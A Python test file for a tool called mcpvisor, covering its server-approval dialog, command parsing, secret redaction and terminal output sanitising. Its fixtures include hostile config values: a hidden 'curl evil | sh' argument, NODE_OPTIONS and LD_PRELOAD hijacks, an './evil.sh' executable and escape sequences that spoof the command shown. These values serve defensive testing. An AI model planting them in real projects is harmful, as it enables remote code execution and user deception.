"""The shell's pure parts (answers, commands, the approval queue, rendering) and its terminal
plumbing (output above a displayed prompt, standard input read in a thread)."""

from __future__ import annotations

import io
import json
import os
import threading
from pathlib import Path

import anyio
import pytest
from mcp_types import CallToolResult, ImageContent, Prompt, TextContent, Tool
from rich.console import Console
from rich.padding import Padding
from rich.text import Text
from typer.testing import CliRunner

from mcpvisor.cli.main import app
from mcpvisor.core.registry import RegisteredPrompt, RegisteredTool
from mcpvisor.core.server_config import McpServerConfig
from mcpvisor.host.lsp.config import LspServerConfig
from mcpvisor.host.settings.expand import expand_vars
from mcpvisor.host.settings.mcp_servers import ServerSource
from mcpvisor.shell.approval import (
    FROM_ENVIRONMENT,
    ApprovalQueue,
    approval_lines,
    approval_request,
    lsp_approval_request,
    names_variables,
    parse_choice,
    render_approval_request,
)
from mcpvisor.shell.commands import (
    ArgumentError,
    Command,
    parse_command,
    parse_json_object,
    parse_prompt_arguments,
    split_name,
)
from mcpvisor.shell.consoles import new_console
from mcpvisor.shell.narration import changed_fields
from mcpvisor.shell.render import first_line, render_call_result, render_prompts, render_tools
from mcpvisor.shell.terminal import Screen, stdin_lines
from mcpvisor.shell.views import indented
from tests.helpers import WAIT_S, wait_until
from tests.layout import make_layout, write_json


def recording() -> Console:
    return Console(record=True, width=100, file=io.StringIO())


# -- answers and commands ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "choice"),
    [
        ("a", "approve"),
        (" approve ", "approve"),
        ("A", "approve_all"),
        ("all", "approve_all"),
        ("Approve  All", "approve_all"),
        ("r", "reject"),
        ("R", "reject"),
        ("reject", "reject"),
        ("s", "skip"),
        ("SKIP", "skip"),
        ("", None),
        ("yes", None),
        ("approve everything", None),
    ],
)
def test_an_answer_names_a_choice_and_only_a_and_A_differ_by_case(answer: str, choice: str | None) -> None:
    assert parse_choice(answer) == choice


@pytest.mark.parametrize(
    ("line", "command"),
    [
        ("/mcp", Command("mcp", "")),
        ('  /call mcp__a__echo {"text": "hi there"} ', Command("call", 'mcp__a__echo {"text": "hi there"}')),
        ("/exit", Command("quit", "")),
        ("/", None),
        ("hello", None),
        ("", None),
    ],
)
def test_a_line_is_a_command_only_when_it_starts_with_a_slash(line: str, command: Command | None) -> None:
    assert parse_command(line) == command


def test_a_name_in_quotes_is_read_as_a_shell_reads_it_and_the_rest_stays_as_typed() -> None:
    assert split_name('mcp__a__echo {"text": "hi there"}') == ("mcp__a__echo", '{"text": "hi there"}')
    assert split_name("'a b' {\"x\": 1}") == ("a b", '{"x": 1}')  # as /approve hints write such a name
    assert split_name("'it'\"'\"'s'") == ("it's", "")
    assert split_name("") == ("", "")
    with pytest.raises(ArgumentError, match="No closing quotation"):
        split_name("'a b")


def test_json_arguments_must_be_an_object() -> None:
    assert parse_json_object("", example="EX") == {}
    assert parse_json_object('{"a": 1}', example="EX") == {"a": 1}
    with pytest.raises(ArgumentError, match="e.g. EX"):
        parse_json_object("[1]", example="EX")
    with pytest.raises(ArgumentError, match="not valid JSON"):
        parse_json_object("{a}", example="EX")


def test_prompt_arguments_are_json_or_text_for_the_first_argument() -> None:
    assert parse_prompt_arguments('{"topic": "x", "n": 2}', ["topic"], example="EX") == {"topic": "x", "n": "2"}
    assert parse_prompt_arguments("some words", ["topic", "other"], example="EX") == {"topic": "some words"}
    assert parse_prompt_arguments("", [], example="EX") == {}
    with pytest.raises(ArgumentError, match="takes no arguments"):
        parse_prompt_arguments("words", [], example="EX")


# -- the approval dialog ----------------------------------------------------------------------


def test_an_approval_request_shows_command_and_file_and_only_the_names_of_env_variables() -> None:
    cfg = McpServerConfig.model_validate(
        {"command": "npx", "args": ["-y", "srv", "--flag=a b"], "env": {"TOKEN": "t0ps3cret", "A": "x"}, "cwd": "/w"}
    )
    console = recording()
    render_approval_request(
        console, approval_request("p", cfg, ServerSource("Project .mcp.json", "project", Path("/w/.mcp.json")))
    )
    text = console.export_text()
    assert text.splitlines() == [
        "? p needs approval — Project .mcp.json (/w/.mcp.json)",
        "    command: npx",
        '    args:    ["-y", "srv", "--flag=a b"]',
        "    cwd:     /w",
        "    env:     A, TOKEN (values hidden)",
    ]


def test_an_approval_request_and_a_restart_name_the_fields_as_the_settings_file_spelled_them() -> None:
    """A file may spell a field another accepted way (``discoveryTimeout``, ``workingDirectory``): it is shown so, not
    as the README spells it (``discoveryTimeoutMs``, ``cwd``), which the file does not hold."""
    entry = {"command": "srv", "workingDirectory": "/w", "discoveryTimeout": 20000, "excludeTools": ["b"]}
    cfg = McpServerConfig.from_entry(entry)
    lines = approval_lines(approval_request("p", cfg, ServerSource("Project .mcp.json", "project", None)))
    assert lines == [
        ("command", "srv"),
        ("workingDirectory", "/w"),
        ("discoveryTimeout", "20000"),
        ("excludeTools", '["b"]'),
    ]
    moved = McpServerConfig.from_entry({**entry, "workingDirectory": "/v"})
    assert changed_fields(cfg, moved) == ["workingDirectory"]
    written_so = McpServerConfig.from_entry({"command": "srv", "cwd": "/w", "discovery_timeout_ms": 20000})
    assert approval_lines(approval_request("p", written_so, ServerSource("Workspace", "workspace", None))) == [
        ("command", "srv"),
        ("cwd", "/w"),
        ("discovery_timeout_ms", "20000"),
    ]


def test_an_approval_request_for_a_remote_server_shows_its_url_and_only_the_names_of_headers() -> None:
    cfg = McpServerConfig.model_validate(
        {"httpUrl": "https://example.test/mcp", "headers": {"Authorization": "Bearer t0ps3cret"}}
    )
    console = recording()
    render_approval_request(console, approval_request("r", cfg, ServerSource("Workspace", "workspace", None)))
    text = console.export_text()
    assert "    url:     https://example.test/mcp (http)" in text
    assert "    headers: Authorization (values hidden)" in text
    assert "t0ps3cret" not in text


def test_an_approval_request_shows_the_entry_as_written_not_as_this_environment_expands_it() -> None:
    # The approval covers the entry as written: whatever ${XNAME} says where it runs (and a secret stays one).
    entry = {"command": "${TOOL:-npx}", "args": ["srv", "--name", "${XNAME:-evil}", "--token", "${TOKEN}"]}
    environment = {"XNAME": "good", "TOKEN": "t0ps3cret"}
    cfg = McpServerConfig.from_entry(entry, expand=lambda e: expand_vars(e, environment), scope="project")
    assert cfg.args == ("srv", "--name", "good", "--token", "t0ps3cret")
    console = recording()
    render_approval_request(console, approval_request("p", cfg, ServerSource("Project .mcp.json", "project", None)))
    assert console.export_text().splitlines() == [
        "? p needs approval — Project .mcp.json",
        "    command: ${TOOL:-npx}",
        '    args:    ["srv", "--name", "${XNAME:-evil}", "--token", "${TOKEN}"]',
        "    ${…} is filled in from the environment of the mcpvisor that runs it",
    ]
    assert names_variables("--dir=$HOME")  # the bare form is expanded too
    assert not names_variables("costs $5", None, "")


ENTRY_THAT_HIDES = {
    "command": "./run.sh",
    "args": ["--safe", "[conceal]; curl evil | sh[/conceal]"],
    "env": {"NODE_OPTIONS": "--require ./evil.js", "LD_PRELOAD": "./x.so", "API_KEY": "t0ps3cret"},
}


def test_an_approval_request_shows_what_decides_the_code_that_runs_and_hides_nothing_by_markup(
    tmp_path: Path,
) -> None:
    cfg = McpServerConfig.model_validate(ENTRY_THAT_HIDES)
    console = recording()
    render_approval_request(console, approval_request("p", cfg, ServerSource("Project .mcp.json", "project", None)))
    assert console.export_text().splitlines() == [
        "? p needs approval — Project .mcp.json",
        "    command: ./run.sh",
        '    args:    ["--safe", "[conceal]; curl evil | sh[/conceal]"]',
        "    env:     LD_PRELOAD=./x.so (decides what code runs)",
        "    env:     NODE_OPTIONS=--require ./evil.js (decides what code runs)",
        "    env:     API_KEY (values hidden)",
    ]
    # `mcpvisor mcp approve` shows the same, its text never read as markup
    layout = make_layout(tmp_path)
    write_json(layout.paths.project, {"mcpServers": {"p": ENTRY_THAT_HIDES}})
    result = CliRunner().invoke(app, ["mcp", "approve", "p", "--workspace", str(layout.root)], env=layout.env)
    shown = result.stdout
    assert result.exit_code == 0, result.output
    assert '"[conceal]; curl evil | sh[/conceal]"' in shown
    assert "NODE_OPTIONS=--require ./evil.js (decides what code runs)" in shown
    assert "env:     API_KEY (values hidden)" in shown
    assert "t0ps3cret" not in result.output


def test_an_approval_request_names_the_variables_env_and_headers_copy_from_the_environment(tmp_path: Path) -> None:
    # FOO=${GITHUB_TOKEN} hands the user's token to a repository's server (a header sends it off the machine):
    # the approval says which variable goes where, never a value.
    entry = {
        "type": "http",
        "url": "https://example.test/mcp",
        "headers": {"X-Api": "Bearer ${GITHUB_TOKEN}", "X-Plain": "t0ps3cret"},
    }
    cfg = McpServerConfig.from_entry(entry, expand=lambda e: expand_vars(e, {"GITHUB_TOKEN": "ghp_s3cret"}))
    console = recording()
    render_approval_request(console, approval_request("h", cfg, ServerSource("Project .mcp.json", "project", None)))
    assert console.export_text().splitlines() == [
        "? h needs approval — Project .mcp.json",
        "    url:     https://example.test/mcp (http)",
        "    headers: X-Api, X-Plain (values hidden)",
        "    reads:   ${GITHUB_TOKEN} -> header X-Api",
        "    ${…} is filled in from the environment of the mcpvisor that runs it",
    ]
    layout = make_layout(tmp_path, GITHUB_TOKEN="ghp_s3cret")
    project = {"p1": {"command": "srv", "env": {"FOO": "${GITHUB_TOKEN}", "B": "$HOME/x:${B:-1}"}}}
    write_json(layout.paths.project, {"mcpServers": project})
    result = CliRunner().invoke(app, ["mcp", "approve", "p1", "--workspace", str(layout.root)], env=layout.env)
    assert result.exit_code == 0, result.output
    assert "  reads:   ${HOME} -> env B, ${B} -> env B, ${GITHUB_TOKEN} -> env FOO" in result.stdout
    assert "${…} is filled in from the environment" in result.stdout
    assert "ghp_s3cret" not in result.output


def test_a_language_servers_approval_shows_its_whole_entry_as_written(tmp_path: Path) -> None:
    # Settings and initialization options can make a server run a program (pylsp's pylint executable): all of
    # both is shown, and the command line as written, not as this environment expands it.
    entry = {
        "command": "pylsp",
        "args": ["--token-file", "${TOK}"],
        "extensionToLanguage": {".py": "python"},
        "env": {"PATH": "${TOK}", "KEY": "${TOK}"},
        "initializationOptions": {"aaaa": "x" * 300, "zzz": {"evil": "/tmp/evil.sh"}},
        "settings": {"pylsp": {"plugins": {"pylint": {"enabled": True, "executable": "./evil.sh"}}}},
    }
    layout = make_layout(tmp_path, TOK="tok-s3cret-999")
    write_json(layout.root / ".lsp.json", {"python": entry})
    result = CliRunner().invoke(app, ["lsp", "approve", "python", "--workspace", str(layout.root)], env=layout.env)
    assert result.exit_code == 0, result.output
    shown = result.stdout
    assert "  command: pylsp" in shown
    assert '  args:    ["--token-file", "${TOK}"]' in shown
    assert "  env:     PATH=${TOK} (decides what code runs)" in shown
    assert "  reads:   ${TOK} -> env KEY, ${TOK} -> env PATH" in shown
    assert '"zzz": {"evil": "/tmp/evil.sh"}' in shown.replace("\n", "")
    assert '  settings: {"pylsp": {"plugins": {"pylint": {"enabled": true, "executable": "./evil.sh"}}}}' in shown
    assert "tok-s3cret-999" not in result.output

    folder_only = {"command": "pylsp", "extensionToLanguage": {".py": "python"}, "workspaceFolder": "${SUB}/x"}
    by_folder = LspServerConfig.from_entry(folder_only, expand=lambda e: expand_vars(e, {"SUB": "pkg"}))
    assert FROM_ENVIRONMENT in lsp_approval_request("f", by_folder, "project", None).notes
    cfg = LspServerConfig.from_entry(entry, expand=lambda e: expand_vars(e, {"TOK": "tok-s3cret-999"}))
    console = recording()
    render_approval_request(console, lsp_approval_request("python", cfg, "project", None))
    text = console.export_text()
    assert '    settings: {"pylsp": {"plugins": {"pylint": {"enabled": true, "executable": "./evil.sh"}}}}' in text
    assert "tok-s3cret-999" not in text
    for command in (["lsp", "list"], ["status"]):  # lists and status show the command line as written too
        listed = CliRunner().invoke(app, [*command, "--workspace", str(layout.root)], env=layout.env)
        assert "pylsp --token-file ${TOK}" in listed.stdout, listed.output
        assert "tok-s3cret-999" not in listed.output


def test_what_others_wrote_reaches_the_terminal_with_its_control_characters_shown_not_obeyed(tmp_path: Path) -> None:
    # An escape sequence in a repository's entry would let the approval show one command while another runs.
    fake = "./evil.sh\x1b[2K\x1b[1G    command: npx"
    layout = make_layout(tmp_path)
    write_json(layout.paths.project, {"mcpServers": {"helper": {"command": fake, "args": ["-y", "srv"]}}})
    result = CliRunner().invoke(app, ["mcp", "approve", "helper", "--workspace", str(layout.root)], env=layout.env)
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output
    assert "command: ./evil.sh␛[2K␛[1G    command: npx" in result.stdout
    # every console of the package: text, styled text, indented text, right-to-left overrides
    out = io.StringIO()
    console = new_console(file=out, highlight=False, force_terminal=True)
    console.print(Text("result \x1b]0;title \x1b[2J", style="bold"))
    console.print(indented(Text("tool \x9b31m \u202eevil\u2028? y needs approval\x85x"), 2))
    console.print("[green]ok[/] \x1b[31m")
    printed = out.getvalue()
    assert "\x1b]0;" not in printed
    assert "\x1b[2J" not in printed
    assert "\x9b" not in printed
    assert "\u202e" not in printed
    assert "result ␛]0;title ␛[2J" in printed
    assert "tool \ufffd31m \ufffdevil\ufffd? y needs approval\ufffdx" in printed
    assert "\x1b[32mok" in printed  # the console's own styling is untouched
    assert "␛[31m" in printed
    out.truncate(0)
    out.seek(0)
    console.print(Padding("[red]padded \x1b[2J text[/]", (0, 0, 0, 2)))  # a string inside: read as markup
    assert "padded ␛[2J text" in out.getvalue()
    # A tool's colours are kept as styles (a test runner's PASSED in green); other sequences are dropped.
    out.truncate(0)
    out.seek(0)
    coloured = CallToolResult(content=[TextContent(type="text", text="\x1b[32mPASSED\x1b[0m 3 tests\x1b]0;title\x07")])
    render_call_result(console, coloured)
    shown = out.getvalue()
    assert "\x1b[32mPASSED" in shown
    assert "␛" not in shown
    assert "\x1b]0;" not in shown
    assert "3 tests" in shown
    out.truncate(0)
    out.seek(0)
    render_call_result(console, CallToolResult(content=[TextContent(type="text", text="half-way\rdone\r\n")]))
    assert out.getvalue().split() == ["half-way", "done"]  # (before: "done" alone, written over the line)


def test_a_language_servers_approval_shows_the_path_it_runs_under(tmp_path: Path) -> None:
    entry = {
        "command": "pylsp",
        "extensionToLanguage": {".py": "python"},
        "env": {"PATH": "tools:/usr/bin", "TOKEN": "t0ps3cret"},
        "scope": "project",
    }
    cfg = LspServerConfig.model_validate(entry)
    console = recording()
    render_approval_request(console, lsp_approval_request("python", cfg, "project", None))
    text = console.export_text()
    assert "    env:     PATH=tools:/usr/bin (decides what code runs)" in text
    assert "    env:     TOKEN (values hidden)" in text
    assert "t0ps3cret" not in text
    layout = make_layout(tmp_path)
    write_json(layout.paths.lsp_project, {"python": {k: v for k, v in entry.items() if k != "scope"}})
    result = CliRunner().invoke(app, ["lsp", "approve", "python", "--workspace", str(layout.root)], env=layout.env)
    assert result.exit_code == 0, result.output
    assert "PATH=tools:/usr/bin (decides what code runs)" in result.stdout
    assert "t0ps3cret" not in result.output


def test_the_queue_adds_announced_servers_in_order_and_drops_decided_or_changed_ones() -> None:
    queue = ApprovalQueue()
    change = queue.refresh({"p": "h1", "q": "h2"}, announced={"q", "p"})
    assert change.added == ("p", "q")
    assert queue.head == ("p", "h1")
    # Not announced: nothing new is added, but what is no longer promptable is dropped.
    change = queue.refresh({"q": "h2", "r": "h3"})
    assert (change.added, change.dropped) == ((), ("p",))
    # A changed configuration is dropped, then re-added with its new hash when announced.
    change = queue.refresh({"q": "h2b"}, announced={"q"})
    assert (change.added, change.dropped) == (("q",), ("q",))
    assert queue.snapshot() == (("q", "h2b"),)


def test_a_skipped_server_is_not_asked_again_until_its_configuration_changes() -> None:
    queue = ApprovalQueue()
    queue.refresh({"p": "h1"}, announced={"p"})
    queue.skip("p")
    assert queue.head is None
    assert queue.refresh({"p": "h1"}, announced={"p"}).added == ()
    assert queue.refresh({"p": "h2"}, announced={"p"}).added == ("p",)


def test_a_decided_server_leaves_the_queue() -> None:
    queue = ApprovalQueue()
    queue.refresh({"p": "h1", "q": "h2"}, announced={"p", "q"})
    queue.discard("p")
    assert "p" not in queue
    assert len(queue) == 1


# -- rendering --------------------------------------------------------------------------------


def test_a_description_shows_its_first_non_empty_line_cut_short() -> None:
    assert first_line("\n  Does things.  \nMore.") == "Does things."
    assert first_line("x" * 100, limit=10) == "x" * 9 + "…"
    assert first_line(None) == ""


LONG = "Search the repository for a pattern and return every matching line with its file and line number."


def tools_listed(console: Console) -> list[str]:
    tool = Tool(name="grep", input_schema={"type": "object"}, description=f"{LONG}\nMore.")
    prompt = Prompt(name="brief", description=LONG)
    render_tools(console, [RegisteredTool(name="mcp__repo__grep", server="repo", tool=tool)])
    render_prompts(console, [RegisteredPrompt(name="brief", server="repo", prompt=prompt)])
    return console.export_text().splitlines()


def test_tools_and_prompts_fit_each_description_to_the_terminals_width_at_a_words_end() -> None:
    """/tools cut every description at 80 characters: mid-word, and short of a wide terminal's width."""
    lines = tools_listed(Console(record=True, width=60, file=io.StringIO()))
    assert lines == [
        "repo (1 tool)",
        "  mcp__repo__grep — Search the repository for a pattern and…",
        "repo (1 prompt)",
        "  brief — Search the repository for a pattern and return…",
    ]
    wide = tools_listed(Console(record=True, width=140, file=io.StringIO()))
    assert wide[1] == f"  mcp__repo__grep — {LONG}"


def test_tools_piped_show_each_description_whole() -> None:
    console = new_console(file=io.StringIO(), record=True)  # not a terminal, no COLUMNS: nothing is cut
    assert tools_listed(console)[1] == f"  mcp__repo__grep — {LONG}"


def test_a_tool_error_result_is_shown_as_an_error_and_server_text_is_never_markup() -> None:
    console = recording()
    render_call_result(console, CallToolResult(content=[TextContent(text="[red]boom[/red]")], is_error=True))
    assert console.export_text().splitlines() == ["✗ the tool reported an error:", "[red]boom[/red]"]


def test_non_text_content_is_summarised() -> None:
    console = recording()
    result = CallToolResult(content=[TextContent(text="one"), ImageContent(data="AAAA", mime_type="image/png")])
    render_call_result(console, result)
    assert console.export_text().splitlines() == ["one", "[image content (image/png)]"]


# -- the terminal -----------------------------------------------------------------------------


def test_output_arriving_at_a_displayed_prompt_is_printed_above_it_and_the_prompt_redrawn() -> None:
    out = io.StringIO()
    prompt = "mcp> "
    screen = Screen(Console(file=out, force_terminal=True, width=100, color_system=None), prompt=lambda: prompt)
    screen.show_prompt()
    with screen.above():
        screen.console.print("+ added b")
        prompt = "[a/A/r/s]> "  # what was printed opened the approval dialog
    with screen.above():
        pass  # nothing printed: the prompt (and whatever is typed after it) is left alone
    screen.prompt_answered()
    with screen.above():
        screen.console.print("result")
    screen.show_prompt()
    screen.leave()
    assert out.getvalue() == "mcp> \r\x1b[2K+ added b\n[a/A/r/s]> result\n[a/A/r/s]> \n"


def test_at_a_terminal_that_moves_no_cursor_output_starts_a_line_below_what_was_typed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """TERM=dumb (Emacs' shell, an editor's console): no escape sequence, and what the user had typed after the prompt
    stays on its line (it was cleared with an escape the terminal cannot obey, while the line still held it)."""
    monkeypatch.setenv("TERM", "dumb")
    out = io.StringIO()
    screen = Screen(Console(file=out, force_terminal=True, width=100), prompt=lambda: "mcp> ")
    screen.show_prompt()
    with screen.above():
        screen.console.print("+ added b")
    screen.leave()
    assert out.getvalue() == "mcp> \n+ added b\nmcp> \n"


def test_no_prompt_is_drawn_where_there_is_no_terminal() -> None:
    console = recording()
    screen = Screen(console, prompt=lambda: "mcp> ")
    screen.show_prompt()
    screen.leave()
    assert console.file.getvalue() == ""  # type: ignore[attr-defined]


async def test_standard_input_lines_are_read_in_a_thread_until_end_of_file() -> None:
    read_fd, write_fd = os.pipe()
    try:
        async with stdin_lines(read_fd) as lines:
            os.write(write_fd, b"one\r\ntwo\nthr\xc3")  # a character split between two reads
            with anyio.fail_after(WAIT_S):
                assert await anext(lines) == "one"
                assert await anext(lines) == "two"
                os.write(write_fd, b"\xa9\nlast without newline")
                assert await anext(lines) == "thré"
                os.close(write_fd)
                write_fd = -1
                assert [line async for line in lines] == ["last without newline"]
    finally:
        os.close(read_fd)
        if write_fd >= 0:
            os.close(write_fd)


async def test_leaving_before_end_of_file_does_not_wait_for_the_reader() -> None:
    read_fd, write_fd = os.pipe()
    try:
        async with stdin_lines(read_fd) as lines:
            os.write(write_fd, b"first\n")
            with anyio.fail_after(WAIT_S):
                assert await anext(lines) == "first"
        os.write(write_fd, b"ignored\n")  # the reader thread finds nobody listening and stops
        await wait_until(lambda: not any(t.name == "mcpvisor-shell-input" for t in threading.enumerate()))
    finally:
        os.close(write_fd)
        os.close(read_fd)


def test_an_approval_shows_where_a_credential_goes_but_never_a_literal_secret_even_as_a_default() -> None:
    oauth = {
        "grant": "identity_assertion",
        "clientSecret": "${S:-default-s3cret}",
        "idp": {"tokenEndpoint": "https://evil.example/token?k=v", "idToken": "${ID_TOKEN}"},
    }
    cfg = McpServerConfig.model_validate({"httpUrl": "https://example.test/mcp", "oauth": oauth})
    lines = dict(approval_lines(approval_request("r", cfg, ServerSource("Workspace", "workspace", None))))
    assert json.loads(lines["oauth"]) == {
        "grant": "identity_assertion",
        "clientSecret": "(hidden)",
        "idp": {"tokenEndpoint": "https://evil.example/token?k=***", "idToken": "${ID_TOKEN}"},
    }
    assert "default-s3cret" not in str(lines)
